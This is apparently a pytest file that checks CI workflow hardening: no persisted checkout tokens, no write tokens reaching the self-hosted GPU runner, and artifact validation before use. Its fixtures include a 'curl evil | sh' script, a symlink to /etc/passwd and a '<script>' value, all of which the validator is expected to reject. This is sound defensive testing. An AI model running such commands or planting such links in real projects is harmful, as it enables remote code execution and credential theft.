"""The workflows on a persistent self-hosted runner: no job keeps its credentials on disk, and a job that holds
a write token takes from the GPU runner only plain data it has checked."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
CHECK = ROOT / ".github" / "scripts" / "check_artifacts.py"


def steps(path: Path):
    for name, job in yaml.safe_load(path.read_text())["jobs"].items():
        for step in job.get("steps", []):
            yield name, job, step


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_no_checkout_leaves_its_token_on_the_runners_disk(path):
    checkouts = [(job, step) for job, _, step in steps(path) if str(step.get("uses", "")).startswith("actions/checkout@")]
    assert checkouts
    for job, step in checkouts:
        assert step.get("with", {}).get("persist-credentials") is False, f"{path.name}: job {job}"


def test_jobs_with_write_tokens_check_what_they_take_from_the_gpu_runner():
    workflow = ROOT / ".github" / "workflows" / "embed-regression.yml"
    for name, job, step in steps(workflow):
        if "write" not in job.get("permissions", {}).values():
            continue
        assert "self-hosted" not in job["runs-on"], name  # a token that can push never reaches the GPU runner
    for name, downloaded in (("benchmarks", "benchmark reports/"), ("baselines-pr", "baselines baselines/")):
        job_steps = [step for job_name, _, step in steps(workflow) if job_name == name]
        download = next(i for i, step in enumerate(job_steps) if "download-artifact" in str(step.get("uses")))
        check = next(i for i, step in enumerate(job_steps) if str(CHECK.relative_to(ROOT)) in step.get("run", ""))
        used = next(i for i, step in enumerate(job_steps) if "github-action-benchmark" in str(step.get("uses"))
                    or "create-pull-request" in str(step.get("uses")))
        assert download < check < used and downloaded in job_steps[check]["run"], name


def run_check(kind: str, folder: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(CHECK), kind, str(folder)], capture_output=True, text=True)


def test_the_check_passes_the_plugins_own_files_and_refuses_anything_else(tmp_path):
    assert run_check("baselines", ROOT / "baselines").returncode == 0, run_check("baselines", ROOT / "baselines").stdout
    reports = tmp_path / "reports" / "minilm-benchmark"
    reports.mkdir(parents=True)
    (reports / "smaller-is-better.json").write_text(json.dumps(
        [{"name": "minilm latency_p50_ms", "unit": "ms", "value": 12.5, "range": "± 1.25",
          "extra": "cpu-2c sglang float32"}]))
    (reports / "smaller-is-better-alert-threshold.txt").write_text("130%")
    assert run_check("benchmark", reports).returncode == 0

    (reports / "bigger-is-better.json").write_text(json.dumps([{"name": "x", "unit": "<script>", "value": "1"}]))
    refused = run_check("benchmark", reports)
    assert refused.returncode == 1 and "figure 0: value is str" in refused.stdout
    assert "bigger-is-better.json: no bigger-is-better-alert-threshold.txt beside it" in refused.stdout
    (reports / "run.sh").write_text("curl evil | sh\n")
    assert "run.sh: not a benchmark file" in run_check("benchmark", reports).stdout

    baselines = tmp_path / "baselines"
    baselines.mkdir()
    (baselines / "run.sh").write_text("curl evil | sh\n")
    (baselines / "link.toml").symlink_to("/etc/passwd")
    np.savez(baselines / "ok.npz", vectors=np.zeros((2, 3)))
    refused = run_check("baselines", baselines)
    assert refused.returncode == 1
    assert "run.sh: not a baseline file" in refused.stdout and "link.toml: a symbolic link" in refused.stdout
    assert "ok.npz" not in refused.stdout
